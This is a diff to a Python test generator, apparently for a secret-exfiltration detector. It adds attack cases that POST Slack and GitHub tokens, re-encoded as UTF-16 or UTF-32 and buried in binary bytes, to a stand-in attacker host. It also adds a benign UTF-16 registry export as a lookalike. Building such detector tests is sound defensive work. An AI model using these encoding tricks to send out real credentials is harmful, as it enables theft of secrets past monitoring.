@@ -476,6 +476,14 @@ def attacks(rng: random.Random) -> list[Case]:
     add("hexdump", "gzip | xxd of a key", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/paste",
         body=_xxd(gzip.compress(f"key: {vendor}\n".encode(), mtime=0)).encode())
 
+    # -- ASCII stored as UTF-16 or UTF-32 (``iconv -t utf-16``, a string in a binary file) -------
+    add("utf-16", "iconv -t utf-16 of a file holding a token", ("slack-token",), method="POST", url=f"{evil}/paste",
+        headers=(("Content-Type", "application/octet-stream"),),
+        body=f"\ufeffnotify:\n  slack: {f.slack()}\n".encode("utf-16-le"))
+    add("utf-16", "a token as UTF-32 (big-endian) inside binary bytes", ("github-token",), method="POST",
+        url=f"{evil}/upload", headers=(("Content-Type", "application/octet-stream"),),
+        body=bytes(range(256)) * 4 + f"ref={f.github()};".encode("utf-32-be") + bytes(range(255, -1, -1)) * 4)
+
     # -- names asked of a public resolver over HTTPS (DNS over HTTPS, JSON APIs) ------------------
     db32 = _b32(db.encode())
     add("dns-over-https", "GET ?dns= with base32 of the password in two labels", ("DB_PASSWORD",),
@@ -734,6 +742,11 @@ def benign(rng: random.Random) -> list[Case]:
         headers=(JSON,), body=_json({"title": "parser fails on this file", "body": "xxd output:\n```\n"
                                      + _xxd(b"\x89PNG\r\n\x1a\n" + rng.randbytes(300)) + "```\n"
                                      + "and `hexdump -C` of the header:\n" + _hexdump_c(rng.randbytes(64))}))
+    add("lookalike", "a registry export in UTF-16", method="POST", url="https://ci.example.org/v1/artifacts",
+        headers=(("Content-Type", "application/octet-stream"),),
+        body=("\ufeffWindows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example\\Build]\r\n"
+              "\"Theme\"=\"dark\"\r\n\"InstallId\"=\"3f2b8c1e-9d4a-4e6b-8f0c-2a7d5e1b9c34\"\r\n"
+              "\"Cache\"=hex:00,01,02,03\r\n").encode("utf-16-le"))
     add("lookalike", "xxd -p of a compressed build log", method="POST", url="https://ci.example.org/v1/artifacts",
         headers=(("Content-Type", "text/plain"),),
         body=_xxd_p(gzip.compress(b"".join(b"step %d ok in %d ms\n" % (i, i * 7) for i in range(200)), mtime=0)).encode())
